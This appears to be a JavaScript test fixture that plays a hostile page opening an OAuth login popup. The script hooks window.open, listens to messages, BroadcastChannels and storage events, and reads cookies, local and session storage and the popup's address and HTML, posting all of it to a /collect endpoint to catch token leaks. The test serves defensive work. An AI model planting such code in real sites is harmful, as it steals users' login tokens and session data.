// A hostile script on a page that opens the login popup (the game frame, the top-level page, an
// SPA): it wraps window.open to keep the popup, reads the popup's address and document whenever
// the browser lets it, listens to every message, BroadcastChannel and storage event, watches
// storage and cookies, and reports all of it to its own origin's /collect. If the token ever
// reaches the opener's side, the collector receives it and the test fails. `KIND` names the page.
(function (kind) {
  var send = window.fetch.bind(window);
  var seen = {};

  function report(what, data) {
    var text = typeof data === 'string' ? data : JSON.stringify(data);
    if (seen[what + text]) return;
    seen[what + text] = true;
    send('/collect', { method: 'POST', body: JSON.stringify({ kind: kind, what: what, data: text }) }).catch(function () {});
  }

  function safe(fn) {
    try {
      return fn();
    } catch (error) {
      return undefined;
    }
  }

  var popups = [];
  var open = window.open;
  window.open = function () {
    var popup = open.apply(this, arguments);
    if (popup) popups.push(popup);
    return popup;
  };

  addEventListener('message', function (event) {
    report('message', {
      origin: event.origin,
      data:
        safe(function () {
          return JSON.stringify(event.data);
        }) || String(event.data),
    });
  });
  addEventListener('storage', function (event) {
    report('storage-event', { key: event.key, value: event.newValue });
  });
  ['itch-oauth', 'itch-oauth-widget', 'itch-oauth:popup', 'oauth'].forEach(function (name) {
    safe(function () {
      new BroadcastChannel(name).onmessage = function (event) {
        report(
          'broadcast',
          safe(function () {
            return JSON.stringify(event.data);
          }),
        );
      };
    });
  });

  setInterval(function () {
    report('storage', {
      local: safe(function () {
        return JSON.stringify(Object.assign({}, localStorage));
      }),
      session: safe(function () {
        return JSON.stringify(Object.assign({}, sessionStorage));
      }),
      cookie: safe(function () {
        return document.cookie;
      }),
    });
    popups.forEach(function (popup) {
      var href = safe(function () {
        return popup.location.href;
      });
      if (href) report('popup-location', href);
      var html = safe(function () {
        return popup.document.documentElement.outerHTML;
      });
      if (html) report('popup-document', html);
    });
  }, 4);
})('KIND');
